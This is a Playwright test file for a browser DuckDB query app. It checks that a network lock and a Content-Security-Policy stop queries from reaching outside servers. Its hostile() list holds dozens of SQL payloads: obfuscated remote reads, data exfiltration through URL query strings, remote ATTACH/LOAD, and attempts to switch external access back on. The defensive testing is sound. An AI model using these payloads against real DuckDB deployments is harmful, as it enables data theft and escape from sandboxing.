/**
 * The network lock, tried the way a user (or a link) would: hostile SQL typed into the query
 * page, each statement built to reach a server on 127.0.0.1 that records every request it
 * gets. Every one must end in a clear error, the server must see nothing, and ordinary queries
 * over imported data must still answer.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, vegaData } from './fixtures';

const requests: string[] = [];
let server: Server;
let base = '';

test.beforeAll(async () => {
	server = createServer((request, response) => {
		requests.push(`${request.method} ${request.url}`);
		response.setHeader('Access-Control-Allow-Origin', '*');
		response.end('a,b\n1,2\n');
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	base = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
	await new Promise((resolve) => server.close(resolve));
});

/** Hostile SQL; `U` stands for an address on the listener (without the scheme). */
function hostile(host: string): string[] {
	const u = (path: string) => `http://${host}/${path}`;
	const [h, rest] = [host.split(':')[0], host.split(':')[1]];
	return [
		`SELECT * FROM read_csv('${u('plain.csv')}')`,
		`SELECT * FROM "${u('quoted-identifier.csv')}"`,
		`SELECT * FROM '${u('replacement-scan.csv')}'`,
		`SELECT * FROM read_csv(concat('htt', 'p://${host}/concat.csv'))`,
		`SELECT * FROM read_csv(chr(104) || 'ttp://${host}/chr.csv')`,
		`SELECT * FROM read_csv(lower('HTTP://${host.toUpperCase()}/LOWER.CSV'))`,
		`SELECT * FROM read_csv(replace('xttp://${host}/replace.csv', 'x', 'h'))`,
		`SELECT * FROM read_csv(format('http://{}/{}', '${host}', 'format.csv'))`,
		`SELECT * FROM read_csv(printf('http://%s:%s/printf.csv', '${h}', '${rest}'))`,
		`SELECT * FROM read_csv($$${u('dollar.csv')}$$)`,
		`SELECT * FROM read_csv($tag$${u('tagged-dollar.csv')}$tag$)`,
		`SELECT * FROM read_csv(E'http\\x3a//${host}/e-string.csv')`,
		`SET VARIABLE target = '${u('variable.csv')}'; SELECT * FROM read_csv(getvariable('target'))`,
		`SELECT * FROM query('SELECT * FROM read_csv(''${u('query.csv')}'')')`,
		`SELECT * FROM query_table('${u('query-table.csv')}')`,
		`CREATE OR REPLACE MACRO grab(x) AS TABLE SELECT * FROM read_csv(x); SELECT * FROM grab('${u('macro.csv')}')`,
		`CREATE OR REPLACE VIEW later AS SELECT * FROM read_csv('${u('view.csv')}')`,
		`PREPARE fetch_it AS SELECT * FROM read_csv($1); EXECUTE fetch_it('${u('prepared.csv')}')`,
		`SELECT * FROM cars JOIN read_csv('${u('join.csv')}') AS r ON true`,
		`SELECT * FROM cars, read_csv('${u('comma.csv')}')`,
		`SELECT * FROM cars WHERE Name IN (SELECT a FROM read_csv('${u('subquery.csv')}'))`,
		`COPY cars TO '${u('copy-to.csv')}'`,
		`COPY (SELECT Name FROM cars) TO '${u('copy-query.parquet')}' (FORMAT parquet)`,
		`COPY cars FROM '${u('copy-from.csv')}'`,
		`EXPORT DATABASE '${u('export')}'`,
		`ATTACH '${u('attach.duckdb')}' AS remote`,
		`ATTACH OR REPLACE '${u('attach-replace.duckdb')}' AS remote2`,
		`ATTACH 'sqlite:${u('attach.sqlite')}' AS remote3`,
		`INSTALL httpfs FROM '${u('repository')}'`,
		`LOAD '${u('extension.duckdb_extension')}'`,
		`LOAD httpfs`,
		`SET enable_external_access = true`,
		`SET allowed_directories = ['/']`,
		`RESET lock_configuration`,
		`PRAGMA enable_external_access = true`,
		`SET custom_extension_repository = '${u('extensions')}'`,
		`WITH RECURSIVE t(s, n) AS (SELECT 'h', 0 UNION ALL SELECT s || substr('ttp://${host}/rec.csv', n + 1, 1), n + 1 FROM t WHERE n < ${`ttp://${host}/rec.csv`.length}) SELECT * FROM read_csv((SELECT s FROM t ORDER BY n DESC LIMIT 1))`,
		`SELECT * FROM read_json('${u('json.json')}')`,
		`SELECT * FROM read_parquet('${u('parquet.parquet')}')`,
		`SELECT * FROM read_text('${u('text.txt')}')`,
		`SELECT * FROM read_blob('${u('blob.bin')}')`,
		`SELECT * FROM glob('${u('*.csv')}')`,
		`SELECT * FROM read_csv(['${u('list-a.csv')}', '${u('list-b.csv')}'])`,
		`SELECT * FROM read_csv('s3://bucket/s3.csv')`,
		`SELECT * FROM read_csv('hf://datasets/quarry/hf.csv')`,
		`SELECT * FROM read_csv('gcs://bucket/gcs.csv')`,
		`SELECT * FROM read_text('https://${host}/https.txt')`,
		`SELECT * FROM read_csv('http://${host}/echo?' || (SELECT string_agg(Name, ',') FROM cars))`,
		`SELECT * FROM read_csv('${u('?name=')}' || (SELECT min(Name) FROM cars))`,
		`SET VARIABLE u = 'http://${host}/?' || (SELECT string_agg(Name, ',') FROM cars); SELECT * FROM read_csv(getvariable('u'))`,
		`SET VARIABLE u = (WITH RECURSIVE t(s, n) AS (SELECT 'h', 0 UNION ALL SELECT s || substr('ttp://${host}/rec2.csv', n + 1, 1), n + 1 FROM t WHERE n < 30) SELECT s FROM t ORDER BY n DESC LIMIT 1); SELECT * FROM read_text(getvariable('u'))`,
		`SELECT CAST((SELECT string_agg(Name, ',') FROM cars) AS INTEGER)`,
		`SELECT * FROM sniff_csv('${u('sniff.csv')}')`,
		`DESCRIBE SELECT * FROM '${u('describe.csv')}'`
	];
}

test('hostile SQL typed into the query page never reaches another server', async ({
	app,
	queryPage
}) => {
	test.setTimeout(240_000);
	await app.goto('/');
	await app.importFile(vegaData('cars.json'));
	await queryPage.goto();
	await app.waitForEngine();

	const queries = hostile(base);
	expect(queries.length).toBeGreaterThanOrEqual(40);
	const answers: string[] = [];
	for (const sql of queries) {
		await queryPage.run(sql);
		await expect(queryPage.error, sql).toBeVisible();
		answers.push(`${sql}\n  → ${(await queryPage.error.innerText()).replace(/\s+/g, ' ')}`);
		// The next run replaces this error; wait for it to go so each answer is its own.
		await queryPage.setSql('');
	}
	// A view created now and read later: the read is refused too.
	await queryPage.run('SELECT * FROM later');
	await expect(queryPage.error).toBeVisible();

	test.info().annotations.push({ type: 'answers', description: answers.join('\n') });
	expect(requests).toEqual([]);
	await queryPage.expectScalar('SELECT count(*)::VARCHAR FROM cars', '406');
});

test('the page and its workers run under the Content-Security-Policy with no violation in normal use', async ({
	app,
	queryPage,
	charts,
	page
}) => {
	test.setTimeout(120_000);
	const violations: string[] = [];
	page.on('console', (message) => {
		if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
	});
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (event) => {
			console.error(
				`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`
			);
		});
	});
	const workerScripts: string[] = [];
	page.on('response', (response) => {
		if (/engine\.worker[^/]*\.js$/.test(response.url())) {
			workerScripts.push(response.headers()['content-security-policy'] ?? '');
		}
	});
	const response = await page.goto('/');
	// Exactly one policy: a second one would be enforced as well.
	const policies = (await response?.headersArray())?.filter(
		(header) => header.name.toLowerCase() === 'content-security-policy'
	);
	expect(policies).toHaveLength(1);
	const policy = policies?.[0]?.value ?? '';
	expect(policy).toContain("connect-src 'self'");
	expect(policy).toContain("frame-ancestors 'none'");
	expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
	expect(policy).not.toMatch(/[^-]unsafe-eval/);

	await app.waitForEngine();
	await app.importFile(vegaData('seattle-weather.csv'));
	await app.importFile(vegaData('cars.json'));
	await queryPage.goto();
	await queryPage.expectScalar('SELECT count(*)::VARCHAR FROM cars', '406');
	await queryPage.run('SELECT weather, avg(temp_max) AS temp FROM seattle_weather GROUP BY 1');
	await charts.expectDrawn();
	await charts.marks.first().hover();

	expect(workerScripts.length).toBeGreaterThan(0);
	for (const header of workerScripts) expect(header).toContain("connect-src 'self'");
	expect(violations).toEqual([]);
});
